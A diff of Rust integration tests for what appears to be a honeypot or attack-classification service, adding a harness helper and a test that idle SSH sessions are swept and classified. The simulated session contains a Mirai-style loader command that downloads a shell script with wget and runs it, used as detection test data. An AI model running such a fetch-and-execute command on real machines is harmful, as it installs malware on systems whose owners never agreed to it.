@@ -70,6 +70,8 @@ impl Harness {
             .oneshot(req)
             .await
             .unwrap();
+        // Ingest answers once events are stored; the worker then carries them to the feed.
+        self.central.pipeline.settle().await;
         let status = resp.status();
         let headers = resp.headers().clone();
         let bytes = resp.into_body().collect().await.unwrap().to_bytes();
@@ -436,8 +438,8 @@ async fn status_codes_and_media_type_everywhere() {
     }
 }
 
-#[tokio::test]
-async fn an_ingested_session_shows_its_behavior_in_the_feed() {
+/// A harness whose analyst is the real engine with the default catalog.
+async fn engine_harness(config: CentralConfig) -> Harness {
     let dir = tempfile::tempdir().unwrap();
     let store = SqliteStore::open(dir.path(), fast()).unwrap();
     let (key, record) = keys::generate(KeyRole::Api, "free", "t").unwrap();
@@ -448,25 +450,22 @@ async fn an_ingested_session_shows_its_behavior_in_the_feed() {
         sikker_engine::Engine::builtin(),
         sikker_engine::BenignList::builtin(),
     );
-    let central = Central::start(
-        Arc::new(store.clone()),
-        Arc::new(analyst),
-        CentralConfig::default(),
-    )
-    .await
-    .unwrap();
-    let h = Harness {
+    let central = Central::start(Arc::new(store.clone()), Arc::new(analyst), config)
+        .await
+        .unwrap();
+    Harness {
         _dir: dir,
         central,
         store,
         key,
         sensor,
-    };
+    }
+}
 
-    // A Mirai-style loader session over SSH.
-    let ip: IpAddr = "203.0.113.66".parse().unwrap();
+/// A Mirai-style loader session over SSH from `ip`, with or without its disconnect.
+fn loader_session(ip: IpAddr, disconnect: bool) -> Vec<Event> {
     let s = Uuid::now_v7();
-    let events: Vec<Event> = [
+    let mut data = vec![
         EventData::Connect,
         EventData::Auth(Auth {
             method: AuthMethod::Password,
@@ -479,11 +478,56 @@ async fn an_ingested_session_shows_its_behavior_in_the_feed() {
         EventData::Command {
             line: "cd /tmp || cd /var/run; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh".into(),
         },
-        EventData::Disconnect(Disconnect { reason: "closed".into(), duration_ms: 900, bytes_in: 90, bytes_out: 300 }),
-    ]
-    .into_iter()
-    .map(|d| Event::new("test", s, Protocol::Ssh, ip, 40100, 22, d))
-    .collect();
+    ];
+    if disconnect {
+        data.push(EventData::Disconnect(Disconnect {
+            reason: "closed".into(),
+            duration_ms: 900,
+            bytes_in: 90,
+            bytes_out: 300,
+        }));
+    }
+    data.into_iter()
+        .map(|d| Event::new("test", s, Protocol::Ssh, ip, 40100, 22, d))
+        .collect()
+}
+
+#[tokio::test]
+async fn a_session_never_disconnected_is_closed_by_the_sweep() {
+    let h = engine_harness(CentralConfig {
+        close_idle_sessions_after: std::time::Duration::ZERO,
+        idle_sweep_every: std::time::Duration::from_millis(20),
+        ..CentralConfig::default()
+    })
+    .await;
+    let ip: IpAddr = "203.0.113.67".parse().unwrap();
+    let events = loader_session(ip, false);
+    assert_eq!(h.ingest(&events).await.status, 200);
+    // No disconnect will come (the sensor died): the sweep closes the session, the worker
+    // classifies it and the indicator gets its behavior.
+    let mut labels = Value::Null;
+    for _ in 0..500 {
+        let r = h.get(&format!("{OBJECTS}203.0.113.67/")).await;
+        if r.status == 200 && r.body["objects"][0]["labels"].is_array() {
+            labels = r.body["objects"][0]["labels"].clone();
+            break;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
+    }
+    assert!(
+        labels.as_array().is_some_and(|l| !l.is_empty()),
+        "the swept session was never classified"
+    );
+    let record = h.store.ip_record(ip).await.unwrap().unwrap();
+    assert_eq!(record.behaviors.values().sum::<u64>(), 1);
+}
+
+#[tokio::test]
+async fn an_ingested_session_shows_its_behavior_in_the_feed() {
+    let h = engine_harness(CentralConfig::default()).await;
+    // A Mirai-style loader session over SSH.
+    let ip: IpAddr = "203.0.113.66".parse().unwrap();
+    let events = loader_session(ip, true);
     assert_eq!(h.ingest(&events).await.status, 200);
     let r = h.get(&format!("{OBJECTS}203.0.113.66/")).await;
     assert_eq!(r.status, 200, "{}", r.body);
